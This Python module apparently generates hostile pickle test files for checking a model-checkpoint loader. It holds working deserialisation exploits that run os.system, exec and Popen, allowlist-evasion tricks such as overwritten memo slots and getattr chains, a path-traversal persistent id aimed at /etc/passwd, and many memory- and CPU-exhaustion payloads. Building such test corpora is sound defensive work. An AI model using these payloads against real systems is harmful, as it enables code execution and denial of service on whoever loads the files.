"""Pickles that call something when they are read as pickles are, in every form that holds one.

They are put together opcode by opcode, since no pickler writes most of them. ``alive`` ones really leave the marker
when `pickle.loads` gets them, which a test shows; the others need a helper (`copyreg`'s extensions, a persistent
loader) or attack the reader itself: time, memory, its stack, the objects that it gives back.
"""

from __future__ import annotations

import functools
import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from hostile.registry import MARKER, Payload, Use, register, written

Pickle = Callable[[str], bytes]
"""From the marker's path to a pickle."""

ALIVE: dict[str, Pickle] = {}
DEAD: dict[str, Pickle] = {}


def alive(make: Pickle) -> Pickle:
    """Leaves the marker when it is unpickled without care."""
    ALIVE[make.__name__] = make
    return make


def dead(make: Pickle) -> Pickle:
    """Attacks in another way, or needs a helper."""
    DEAD[make.__name__] = make
    return make


# --- opcodes


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def text(value: str) -> bytes:
    coded = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(coded)) + coded


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value) if abs(value) < 1 << 31 else b"\x8a\x08" + struct.pack("<q", value)


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def pickled(content: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + content + b"."


def mapping(value: bytes, key: bytes = text("w")) -> bytes:
    """A dict of one item."""
    return b"}" + key + value + b"s"


def touch(marker: str) -> str:
    return f"touch '{marker}'"


def python(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


class _Opens:
    """Pickles as a call of `open`."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, tuple[str, str]]:
        return open, (self.marker, "w")


for _protocol in range(6):
    ALIVE[f"reduce_protocol_{_protocol}"] = functools.partial(
        lambda marker, protocol: pickle.dumps({"w": _Opens(marker)}, protocol), protocol=_protocol
    )


@alive
def a_global(marker: str) -> bytes:
    return pickled(call(name("os", "system"), text(touch(marker))))


@alive
def stack_global(marker: str) -> bytes:
    return pickled(call(text("builtins") + text("exec") + b"\x93", text(python(marker))), 4)


@alive
def stack_global_with_dots(marker: str) -> bytes:
    """Protocol 4 follows dots from a module that looks like ours."""
    return pickled(call(text("torch.serialization") + text("os.system") + b"\x93", text(touch(marker))), 4)


@alive
def inst(marker: str) -> bytes:
    return b"(S" + ascii(touch(marker)).encode() + b"\nios\nsystem\n."


@alive
def obj(marker: str) -> bytes:
    return pickled(b"(" + name("os", "system") + text(touch(marker)) + b"o")


@alive
def newobj(marker: str) -> bytes:
    return pickled(name("subprocess", "Popen") + b"(](" + text("touch") + text(marker) + b"et" + b"\x81", 2).replace(
        b"\x81", b"R"
    )


@alive
def newobj_of_a_partial(marker: str) -> bytes:
    return pickled(name("functools", "partial") + name("os", "system") + text(touch(marker)) + b"\x86\x81)R")


@alive
def newobj_ex(marker: str) -> bytes:
    made = name("functools", "partial") + name("os", "system") + b"\x85}\x92"
    return pickled(made + text(touch(marker)) + b"\x85R", 4)


@alive
def build(marker: str) -> bytes:
    """A harmless partial, whose state is then another one."""
    harmless = name("functools", "partial") + name("builtins", "len") + b"\x85\x81"
    state = b"(" + name("os", "system") + text(touch(marker)) + b"\x85}Nt"
    return pickled(harmless + state + b"b)R")


@alive
def memo_fetched_late(marker: str) -> bytes:
    return pickled(name("os", "system") + b"q\x070" + call(b"h\x07", text(touch(marker))))


@alive
def memo_written_twice(marker: str) -> bytes:
    """First the name that everybody allows, then, in the same place, another."""
    first = name("collections", "OrderedDict") + b"q\x000"
    return pickled(first + name("os", "system") + b"q\x000" + call(b"h\x00", text(touch(marker))))


@alive
def pickle_in_a_pickle(marker: str) -> bytes:
    inner = a_global(marker)
    data = b"B" + struct.pack("<I", len(inner)) + inner
    return pickled(call(name("pickle", "loads"), data), 3)


@alive
def getattr_chain(marker: str) -> bytes:
    """No dangerous name stands in it."""
    module = call(name("importlib", "import_module"), text("o" + "s"))
    return pickled(call(call(name("builtins", "getattr"), module, text("sys" + "tem")), text(touch(marker))))


@alive
def old_module_names(marker: str) -> bytes:
    """Python 2's name of builtins."""
    return pickled(call(name("__builtin__", "eval"), text(python(marker))))


@alive
def frame_that_lies(marker: str) -> bytes:
    return pickled(b"\x95" + struct.pack("<Q", 3) + text("abc")[:3], 4)[:2] + pickle.dumps(_Opens(marker), 4)[2:]


@alive
def in_a_key(marker: str) -> bytes:
    return pickled(b"}" + call(name("os", "system"), text(touch(marker))) + b"Ns")


@alive
def behind_a_state_dict(marker: str) -> bytes:
    return pickled(
        b"}(" + text("w") + b"G" + b"\0" * 8 + text("x") + call(name("os", "system"), text(touch(marker))) + b"u"
    )


@alive
def under_five_hundred_lists(marker: str) -> bytes:
    return pickled(b"]" * 500 + call(name("os", "system"), text(touch(marker))) + b"a" * 500)


@alive
def thrown_away(marker: str) -> bytes:
    """What it calls is popped, and a plain dict is left."""
    return pickled(call(name("os", "system"), text(touch(marker))) + b"0}")


@alive
def in_the_arguments_of_an_allowed_call(marker: str) -> bytes:
    return pickled(
        call(name("collections", "OrderedDict"), b"]" + call(name("os", "system"), text(touch(marker))) + b"0")
    )


@alive
def a_librarys_own_loader(marker: str) -> bytes:
    """A function of NumPy that reads a second file without care."""
    Path(marker).with_name("second").write_bytes(a_global(marker))
    return pickled(call(name("numpy", "load"), text(str(Path(marker).with_name("second"))), b"N", b"\x88"))


# --- those that need a helper


@dead
def extension_1(marker: str) -> bytes:
    return pickled(call(b"\x82\x01", text(touch(marker))))


@dead
def extension_2(marker: str) -> bytes:
    return pickled(call(b"\x83\x01\x01", text(touch(marker))))


@dead
def extension_4(marker: str) -> bytes:
    return pickled(call(b"\x84\x01\0\0\1", text(touch(marker))))


@dead
def name_that_cannot_be_encoded(marker: str) -> bytes:
    return pickled(call(text("o\ud800s\n") + text("sys\ntem") + b"\x93", text(touch(marker))), 4)


@dead
def name_that_cannot_be_encoded_in_a_damaged_pickle(marker: str) -> bytes:
    return pickled(text("\ud800") + text("x") + b"\x93\x8f", 4)


@dead
def persistent_id_as_text(marker: str) -> bytes:
    return b"Pos.system " + marker.encode() + b"\n."


@dead
def persistent_id_that_is_no_storage(marker: str) -> bytes:
    return pickled(mapping(text("module") + name("os", "system") + text(marker) + b"\x87Q"))


@dead
def persistent_id_that_is_a_path(marker: str) -> bytes:
    return pickled(mapping(tensor(key="../../../../etc/passwd")))


@dead
def persistent_id_of_no_length(marker: str) -> bytes:
    return pickled(mapping(b")Q"))


# --- those that attack the reader


def storage(key: str = "0", count: int = 2, kind: str = "FloatStorage") -> bytes:
    """The persistent id by which torch names a storage."""
    return b"(" + text("storage") + name("torch", kind) + text(key) + text("cpu") + number(count) + b"tQ"


def tensor(
    sizes: tuple[int, ...] = (2,), strides: tuple[int, ...] = (1,), offset: int = 0, key: str = "0", count: int = 2
) -> bytes:
    """A tensor as torch.save writes it."""
    shape = b"".join(b"(" + b"".join(map(number, values)) + b"t" for values in (sizes, strides))
    hooks = name("collections", "OrderedDict") + b")R"
    return call(name("torch._utils", "_rebuild_tensor_v2"), storage(key, count), number(offset), shape, b"\x89", hooks)


def _doubled(depth: int) -> bytes:
    """A tuple that would have 2^depth items, written in a few bytes."""
    doubled = b"".join(b"h\x00h\x00\x86q\x00" for _ in range(depth))
    return b"(" + text("a") + b"q\x00" + doubled + b"t"  # nothing may be left on the stack below it


@dead
def key_that_takes_forever_to_hash(marker: str) -> bytes:
    return pickled(mapping(tensor(), _doubled(60)))


@dead
def value_that_takes_forever_to_print(marker: str) -> bytes:
    return pickled(mapping(_doubled(60), text("hidden")))


@dead
def key_that_is_long_to_print(marker: str) -> bytes:
    return pickled(mapping(tensor(), text("k" * 200_000)))


@dead
def bytearray_of_gigabytes(marker: str) -> bytes:
    return pickled(mapping(call(name("builtins", "bytearray"), number(3 << 30))))


@dead
def storage_of_gigabytes(marker: str) -> bytes:
    made = call(name("torch", "FloatTensor"), number(1 << 29), number(2))
    return pickled(mapping(made, text("hidden")))


@dead
def parameter_of_gigabytes(marker: str) -> bytes:
    made = call(name("torch", "Tensor"), number(3 << 28))
    return pickled(b"}(" + text("hidden") + made + text("actions") + made + b"u")


@dead
def codec_of_quadratic_time(marker: str) -> bytes:
    return pickled(mapping(call(name("_codecs", "encode"), text("\u00e9a" * 400_000), text("punycode"))))


@dead
def set_that_collides(marker: str) -> bytes:
    """Numbers that are the same modulo 2^61 − 1 all hash to one place."""
    prime = (1 << 61) - 1
    rows = (b"\x8a\x10" + (1 + n * prime).to_bytes(16, "little") + b"N" for n in range(60_000))
    return pickled(b"}(" + b"".join(rows) + b"u")


@dead
def memo_index_of_gigabytes(marker: str) -> bytes:
    return pickled(b"}r\xff\xff\xff\x7f")


@dead
def text_longer_than_the_file(marker: str) -> bytes:
    return pickled(b"X\xff\xff\xff\x7fabc")


@dead
def text_longer_than_the_machine(marker: str) -> bytes:
    return pickled(b"\x8d" + struct.pack("<Q", 1 << 62) + b"abc", 4)


@dead
def whole_number_of_gigabytes(marker: str) -> bytes:
    return pickled(b"\x8b\xff\xff\xff\x7f\x01")


@dead
def decimal_number_of_a_million_digits(marker: str) -> bytes:
    return b"}Va\nI" + b"9" * 1_000_000 + b"\ns."


@dead
def lists_a_hundred_thousand_deep(marker: str) -> bytes:
    return pickled(mapping(b"]" * 100_000 + b"N" + b"a" * 100_000))


@dead
def dicts_a_hundred_thousand_deep(marker: str) -> bytes:
    return pickled(mapping((b"}" + text("model")) * 100_000 + tensor() + b"s" * 100_000, text("model")))


@dead
def three_million_lists(marker: str) -> bytes:
    return pickled(mapping(b"](" + b"]" * 3_200_000 + b"e"))


@dead
def list_in_itself(marker: str) -> bytes:
    return pickled(b"}(" + text("layer_actions") + b"]q\x00h\x00a" + text("hidden") + tensor() + b"u")


@dead
def dict_in_itself(marker: str) -> bytes:
    return pickled(b"}q\x00" + text("model") + b"h\x00s")


@dead
def marks_alone(marker: str) -> bytes:
    return pickled(b"(" * 100_000)


@dead
def stack_that_is_empty(marker: str) -> bytes:
    return pickled(b"0000")


@dead
def end_alone(marker: str) -> bytes:
    return b"."


@dead
def no_end(marker: str) -> bytes:
    return pickled(mapping(tensor()))[:-1]


@dead
def protocol_of_the_future(marker: str) -> bytes:
    return pickled(b"}", 255)


@dead
def ordered_dict_whose_items_are_text(marker: str) -> bytes:
    """An attribute of the object stands before the method of its class."""
    made = name("collections", "OrderedDict") + b")R" + text("w") + tensor() + b"s"
    state = b"}(" + b"".join(text(n) + text("x") for n in ("items", "values", "keys", "get", "__iter__")) + b"ub"
    return pickled(made + state)


@dead
def inner_dict_whose_items_are_text(marker: str) -> bytes:
    made = name("collections", "OrderedDict") + b")R" + text("w") + tensor() + b"s"
    state = b"}(" + b"".join(text(n) + text("x") for n in ("items", "values", "keys", "get")) + b"ub"
    return pickled(mapping(made + state, text("model")))


@dead
def parameter_whose_methods_are_text(marker: str) -> bytes:
    names = ("dim", "is_floating_point", "float", "detach", "cpu", "clone", "copy_", "numel", "element_size")
    state = b"}(" + b"".join(text(n) + text("x") for n in names) + b"u"
    hooks = name("collections", "OrderedDict") + b")R"
    made = call(name("torch._utils", "_rebuild_parameter_with_state"), tensor((2, 2), (1, 1)), b"\x89", hooks, state)
    return pickled(b"}(" + text("hidden") + made + text("actions") + made + b"u")


@dead
def keys_that_are_no_text(marker: str) -> bytes:
    keys = (b"N", b"\x88", number(3), b"G\x7f\xf8\0\0\0\0\0\0", b"U\x03a\x1bb", b")")
    return pickled(b"}(" + b"".join(key + tensor() for key in keys) + b"u")


@dead
def nothing_but_a_number(marker: str) -> bytes:
    return pickled(number(3))


# --- those that ask what is allowed for more than there is


def expanded(count: int = 1 << 28) -> bytes:
    """A tensor of very many values, all of which are the same one."""
    return tensor((count,), (0,))


def rebuilt(kind: str, *arguments: bytes) -> bytes:
    return call(name("torch._utils", f"_rebuild_{kind}"), *arguments)


def _hidden(made: bytes) -> bytes:
    """A state dict of something that must not be made."""
    return pickled(mapping(made, text("hidden")))


@dead
def arguments_in_a_list(marker: str) -> bytes:
    return _hidden(name("builtins", "bytearray") + b"]" + number(3 << 30) + b"aR")


@dead
def bytearray_as_long_as_a_tensor_says(marker: str) -> bytes:
    """A tensor of one whole number stands for that number; here it is the second float of the file, as an integer."""
    one = rebuilt("tensor_v2", storage(kind="IntStorage"), number(1), b")", b")", b"\x89", b"}")
    return _hidden(call(name("builtins", "bytearray"), one))


@dead
def tensor_of_nested_lists(marker: str) -> bytes:
    """A billion numbers, each list of which is written once."""
    numbers = b"](" + (b"G" + b"\0" * 8) * 1000 + b"eq\x01"
    rows = b"](" + b"h\x01" * 1000 + b"eq\x01"
    made = name("torch", "FloatTensor") + b"](" + b"h\x01" * 1000 + b"e\x85R"
    return pickled(b"}(" + text("a") + numbers + text("b") + rows + text("hidden") + made + b"u")


@dead
def text_that_is_encoded_again_and_again(marker: str) -> bytes:
    encoded = call(name("_codecs", "encode"), b"h\x01", text("latin1"))
    return _hidden(b"](" + text("a" * (1 << 20)) + b"q\x01" + encoded * 3000 + b"e")


@dead
def list_that_is_copied_again_and_again(marker: str) -> bytes:
    copied = call(name("builtins", "set"), b"h\x01")
    items = b"](" + b"".join(number(n) for n in range(10_000)) + b"eq\x01"
    return _hidden(b"](" + items + copied * 10_000 + b"e")


@dead
def state_that_is_copied_again_and_again(marker: str) -> bytes:
    items = b"}(" + b"".join(text(str(n)) + b"N" for n in range(10_000)) + b"uq\x01"
    return _hidden(b"](" + items + (name("collections", "OrderedDict") + b")Rh\x01b") * 10_000 + b"e")


@dead
def expanded_tensor_that_is_copied(marker: str) -> bytes:
    return _hidden(rebuilt("device_tensor_from_cpu_tensor", expanded(), name("torch", "float64"), text("cpu"), b"\x89"))


@dead
def expanded_tensor_that_is_copied_as_a_subclass(marker: str) -> bytes:
    arguments = b"(" + expanded() + name("torch", "float64") + text("cpu") + b"\x89t"
    copied = name("torch._utils", "_rebuild_device_tensor_from_cpu_tensor")
    made = call(name("torch._tensor", "_rebuild_from_type_v2"), copied, name("torch", "Tensor"), arguments, b"}")
    return _hidden(made)


@dead
def expanded_tensor_that_is_quantized(marker: str) -> bytes:
    sizes = b"(" + number(1 << 30) + b"t", b"(" + number(0) + b"t"
    scheme = b"(" + name("torch", "per_tensor_affine") + b"G" + struct.pack(">d", 1.0) + number(0) + b"t"
    return _hidden(rebuilt("qtensor", storage(kind="QInt8Storage"), number(0), *sizes, scheme, b"\x89", b"}"))


@dead
def sizes_that_take_forever_to_multiply(marker: str) -> bytes:
    length = 1 << 20
    sizes = b"(\x8b" + struct.pack("<i", length) + b"\x7f" * length + b"q\x01" + b"h\x01" * 500 + b"t"
    scheme = b"(" + name("torch", "per_tensor_affine") + b"G" + struct.pack(">d", 1.0) + number(0) + b"t"
    return _hidden(rebuilt("qtensor", storage(kind="QInt8Storage"), number(0), sizes, sizes, scheme, b"\x89", b"}"))


@dead
def expanded_tensor_of_places(marker: str) -> bytes:
    """A sparse tensor, whose places torch checks one by one."""
    layout = call(name("torch.serialization", "_get_layout"), text("torch.sparse_coo"))
    places = rebuilt(
        "tensor_v2",
        storage(count=1, kind="LongStorage"),
        number(0),
        b"(" + number(1) + number(1 << 40) + b"t",
        b"(" + number(0) + number(0) + b"t",
        b"\x89",
        b"}",
    )
    return _hidden(
        rebuilt("sparse_tensor", layout, b"(" + places + expanded(1 << 40) + b"(" + number(8) + b"t" + b"\x89t")
    )


@dead
def tensor_that_is_copied_again_and_again(marker: str) -> bytes:
    copied = rebuilt("device_tensor_from_cpu_tensor", b"h\x01", name("torch", "float64"), text("cpu"), b"\x89")
    return _hidden(b"](" + tensor() + b"q\x01" + copied * 10_000 + b"e")


def _of_an_expanded_tensor(_marker: str, module: str, kind: str) -> bytes:
    """What goes through all that it is made of, by the names of today and of Python 2."""
    return _hidden(call(name(module, kind), expanded()))


for _module, _kinds in {
    **{"builtins": ("set",), "torch": ("Size", "Tensor"), "collections": ("Counter", "OrderedDict")},
    **{"__builtin__": ("set",), "UserDict": ("Counter",)},
}.items():
    for _kind in _kinds:
        DEAD[f"{_module}_{_kind}_of_an_expanded_tensor"] = functools.partial(
            _of_an_expanded_tensor, module=_module, kind=_kind
        )


@dead
def pairs_that_are_expanded_tensors(marker: str) -> bytes:
    return _hidden(call(name("collections", "OrderedDict"), b"]" + expanded() + b"a"))


@dead
def state_that_is_an_expanded_tensor(marker: str) -> bytes:
    return _hidden(name("collections", "OrderedDict") + b")R" + expanded() + b"b")


@dead
def tensor_whose_state_is_an_expanded_tensor(marker: str) -> bytes:
    return _hidden(name("torch", "Tensor") + b")\x81" + expanded() + b"b")


@dead
def storage_of_an_expanded_tensor_of_items(marker: str) -> bytes:
    """Its size is multiplied by that of a number."""
    key = b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + expanded() + b"tQ"
    return _hidden(key)


@dead
def storage_whose_name_takes_forever_to_hash(marker: str) -> bytes:
    key = b"(" + text("storage") + name("torch", "FloatStorage") + _doubled(60) + text("cpu") + number(2) + b"tQ"
    return _hidden(key)


@dead
def layout_whose_name_takes_forever_to_hash(marker: str) -> bytes:
    return _hidden(call(name("torch.serialization", "_get_layout"), _doubled(60)))


@dead
def key_that_is_hashed_half_a_million_times(marker: str) -> bytes:
    key = b"(" + b"K\x01" * 900 + b"tq\x01"
    return pickled(mapping(b"}(" + key + b"N" + b"h\x01N" * 500_000 + b"u", text("model")))


@dead
def key_of_a_list_in_itself(marker: str) -> bytes:
    """Whoever goes through it never ends, and keeps a million items each time."""
    return pickled(mapping(tensor(), b"](" + b"N" * 500_000 + b"eq\x01h\x01a\x85"))


@dead
def storage_longer_than_the_file(marker: str) -> bytes:
    return _hidden(tensor((1 << 28,), (1,), count=1 << 28))


# --- forms that hold a pickle


def zip_entries(content: bytes, root: str = "archive") -> dict[str, bytes]:
    """What torch.save's zip form consists of."""
    return {
        f"{root}/data.pkl": content,
        f"{root}/byteorder": b"little",
        f"{root}/data/0": struct.pack("<2f", 1.0, 2.0),
        f"{root}/version": b"3\n",
    }


def in_a_zip(content: bytes, compression: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        for entry, data in zip_entries(content).items():
            archive.writestr(entry, data)
    return stream.getvalue()


_LEGACY_HEAD = (
    pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    + pickle.dumps(1001, 2)
    + pickle.dumps(
        {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2
    )
)


def in_a_legacy_file(content: bytes) -> bytes:
    return _LEGACY_HEAD + content + pickle.dumps(["0"], 2) + struct.pack("<q2f", 2, 1.0, 2.0)


def in_a_tar(content: bytes) -> bytes:
    """The form before the legacy one."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for entry, data in (
            ("sys_info", pickle.dumps({"little_endian": True}, 2)),
            ("pickle", content),
            ("storages", pickle.dumps(0, 2)),
            ("tensors", pickle.dumps(0, 2)),
        ):
            info = tarfile.TarInfo(entry)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return stream.getvalue()


def bare(content: bytes) -> bytes:
    return content


def _file(folder: Path, make: Pickle, form: Callable[[bytes], bytes], called: str) -> Path:
    return written(folder, called, form(make(str(folder / MARKER))))


def _distributed(folder: Path, make: Pickle) -> Path:
    """A folder of torch.distributed.checkpoint."""
    inside = folder / "checkpoint"
    inside.mkdir()
    (inside / "__0_0.distcp").write_bytes(in_a_zip(make(str(folder / MARKER))))
    (inside / ".metadata").write_bytes(make(str(folder / MARKER)))
    return inside


def _register(kind: str, make: Callable[[Path], Path], use: Use, source: Pickle | None = None) -> None:
    living = None if source is None else (lambda folder, source=source: source(str(folder / MARKER)))
    register(Payload(f"pickles:{kind}", make, (use,), alive=living))


for _name, _make in (ALIVE | DEAD).items():
    _living = _make if _name in ALIVE else None
    _register(
        f"zip-{_name}", functools.partial(_file, make=_make, form=in_a_zip, called="head.pt"), "checkpoint", _living
    )
    _register(f"legacy-{_name}", functools.partial(_file, make=_make, form=in_a_legacy_file, called="dump.pt"), "batch")
    _register(f"bare-{_name}", functools.partial(_file, make=_make, form=bare, called="head.pkl"), "checkpoint")
    _register(f"distributed-{_name}", functools.partial(_distributed, make=_make), "checkpoint")

for _name in ("reduce_protocol_2", "a_global", "ordered_dict_whose_items_are_text", "no_end"):
    _make = (ALIVE | DEAD)[_name]
    _register(f"tar-{_name}", functools.partial(_file, make=_make, form=in_a_tar, called="head.tar"), "checkpoint")
    for _called in ("head.safetensors", "dump.npz", "dump.npy", "model.safetensors.index.json", "head", "weights.bin"):
        for _form in (in_a_zip, in_a_legacy_file, bare):
            _register(
                f"{_form.__name__}-{_name}-called-{_called}",
                functools.partial(_file, make=_make, form=_form, called=_called),
                "batch" if _called.startswith("dump") else "checkpoint",
            )
